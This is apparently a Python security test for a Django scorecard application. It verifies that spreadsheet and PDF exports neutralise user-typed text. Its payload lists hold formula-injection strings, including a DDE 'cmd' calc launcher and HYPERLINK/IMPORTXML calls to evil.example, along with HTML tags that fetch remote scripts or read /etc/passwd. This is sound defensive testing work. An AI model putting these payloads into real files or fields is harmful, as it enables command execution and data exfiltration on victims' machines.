"""Promise 19: what people typed is run by no spreadsheet and no PDF, and -5 stays a number.

Fifty texts that spreadsheets take for formulas name units, KPIs, objectives, perspectives, owners
and reasons. Every file that leaves for a spreadsheet is opened again: the tables of the pages as
.csv and .xlsx, the record of changes, and a package as .xlsx. The files of a package in a folder
are for programs and keep every text byte for byte (docs/exchange.md).

The same pages are made into PDFs, with names that a browser would take for pictures and scripts
from a server that listens: nobody asks it for anything, and nothing in a PDF runs, opens or leads
elsewhere.
"""

import contextlib
import csv
import io
import itertools
import re
import socket
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

from django.utils.html import escape
from python_calamine import CalamineWorkbook

from tests.proofs.databases import a_database

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "=\t", "+=", "-@")
ENDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","Click")',
    "SUM(1,1)",
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
)
PAYLOADS = [start + end for start, end in itertools.product(STARTS, ENDS)]
RISKY = ("=", "+", "-", "@", "\t", "\r", "\n")
MARKUP = (
    '<img src="{there}/image">',
    '<script src="{there}/script"></script>',
    '<link rel="stylesheet" href="{there}/style">',
    '<style>@import "{there}/import";</style>',
    '<a href="{there}/link" rel="attachment">report</a>',
    '"><object data="{there}/object"></object>',
    "<img src=file:///etc/passwd>",
    "</main><iframe src={there}/frame></iframe>",
    "url({there}/url)",
    "{{{{ {there} }}}}",
)
# What would make a PDF run, open, hold or fetch something.
ACTIVE = (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/URI", b"/EmbeddedFile", b"/GoToR")
PAPER = ("scorecard/", "units/", "kpis/K0/", "map/", "explain/kpis/K0/", "", "dashboard/")
PLACE = "unit=TOP&period=2026-10"
PATHS = ("scorecard/", "units/", "kpis/K0/", "kpi-units/K0/")


def prove():
    """Print what was looked at in each file; tell whether all of it was harmless."""
    with a_database():
        import time_machine

        then = time_machine.travel("2026-11-12 08:00Z", tick=False)
        with then, listening() as (there, heard):
            markup = [text.format(there=there) for text in MARKUP]
            client = _typed_by_somebody(markup)
            held = [_holds(name, content) for name, content in _files(client)]
            held += [_holds_on_paper(path, client, markup) for path in PAPER]
            held.append(_was_left_alone(heard()))
    return all(held)


@contextlib.contextmanager
def listening():
    """Listen on a port; yield its address and how often somebody has come by."""
    with socket.create_server(("127.0.0.1", 0), backlog=100) as server:
        server.setblocking(False)

        def heard():
            callers = 0
            with contextlib.suppress(BlockingIOError):
                while True:
                    server.accept()[0].close()
                    callers += 1
            return callers

        yield f"http://127.0.0.1:{server.getsockname()[1]}", heard


def _typed_by_somebody(markup):
    """Make an organisation in which every text is a payload; return the office's browser."""
    from decimal import Decimal

    from django.test import Client

    from audit.services.records import record
    from scorecard.models import Kpi
    from tests import factories as make
    from tests.scorecard.small import roll_up

    make.make_organization()
    top = make.make_unit("TOP", name=PAYLOADS[0])
    office = make.make_person("Ada Whitlock", "osm_staff", top)
    for number, text in enumerate((*PAYLOADS, *markup)):
        unit = make.make_unit(f"U{number}", top, name=text)
        kpi = make.make_kpi(f"K{number}", name=text, unit_of_measure=text[:20])
        perspective = make.make_perspective(f"P{number}", name=text)
        objective = make.make_objective(
            f"O{number}", unit=top, name=text, owner_name=text, perspective=perspective
        )
        make.make_line(objective, kpi)
        # The first one is reported by all of them.
        first = Kpi.objects.get(code="K0")
        for each in {kpi, first}:
            make.make_reporter(unit, each)
            make.make_entry(unit, each, "2026-10", Decimal(-5))
        said = {"subject": text, "reason": text, "unit_id": top.pk}
        record(actor=office, verb="submitted", kind="entry", **said)
    roll_up()
    client = Client()
    client.force_login(office)
    return client


def _files(client):
    """Yield every file that leaves for a spreadsheet, by what it is."""
    from osm.export import export_package

    for path, kind in itertools.product(PATHS, ("csv", "xlsx")):
        answer = client.get(f"/tables/{kind}/{path}?{PLACE}")
        yield f"table {path}{kind}", answer.content
    yield "record of changes csv", b"".join(client.get("/audit/export/").streaming_content)
    with tempfile.TemporaryDirectory(prefix="osm-proof-") as folder:
        export_package(path=Path(folder) / "package.xlsx")
        yield "package xlsx", (Path(folder) / "package.xlsx").read_bytes()


def _holds_on_paper(path, client, markup):
    """Make a page a PDF and look into it: what was typed stands there as text, and does nothing."""
    page = client.get(f"/{path}?{PLACE}")
    pdf = client.get(f"/{path}?{PLACE}&format=pdf")
    if pdf.get("Content-Type") != "application/pdf":
        sys.stdout.write(f"pdf /{path}: none was made ({pdf.status_code})\n")
        return False
    inside = _unpacked(pdf.content)
    active = [word.decode() for word in ACTIVE if word in inside]
    typed = sum(escape(text) in page.content.decode() for text in markup)
    sys.stdout.write(
        f"pdf /{path}: {len(pdf.content)} bytes, of a page with {typed} pieces of markup as "
        f"names, {len(active)} active parts\n"
    )
    return not active


def _unpacked(pdf):
    """Return the bytes of a PDF with what is packed in it."""
    packed = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.DOTALL)
    found = [pdf]
    for content in packed:
        with contextlib.suppress(zlib.error):
            found.append(zlib.decompress(content))
    return b"".join(found)


def _was_left_alone(callers):
    sys.stdout.write(f"the server that names pointed at was asked {callers} times\n")
    return callers == 0


def _holds(name, content):
    looked_at = _of_csv if name.endswith("csv") else _of_xlsx
    cells, formulas, fives = looked_at(content)
    typed = sum(cell.lstrip("'").strip() in {each.strip() for each in PAYLOADS} for cell in cells)
    sys.stdout.write(
        f"{name}: {len(cells)} cells, {typed} of them payloads, {formulas} formulas, "
        f"{fives} times -5 as a number\n"
    )
    # The course of a KPI holds its own figures alone: the sum of all fives, and one name.
    is_course = "kpis/" in name
    needs_fives = name.startswith(("table scorecard", "table kpi-units"))
    return formulas == 0 and (typed > 0 or is_course) and (fives > 0 or not needs_fives)


def _of_csv(content):
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    cells = [cell for row in rows for cell in row if cell]
    numbers = [cell for cell in cells if _is_number(cell)]
    formulas = [cell for cell in cells if cell.startswith(RISKY) and cell not in numbers]
    return cells, len(formulas), sum(float(number) == -5 for number in numbers)


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _of_xlsx(content):
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    cells = [
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
        if cell != ""
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        formulas = sum(archive.read(name).count(b"<f>") for name in sheets)
    texts = [str(cell) for cell in cells]
    return texts, formulas, sum(cell == -5.0 for cell in cells if isinstance(cell, float))
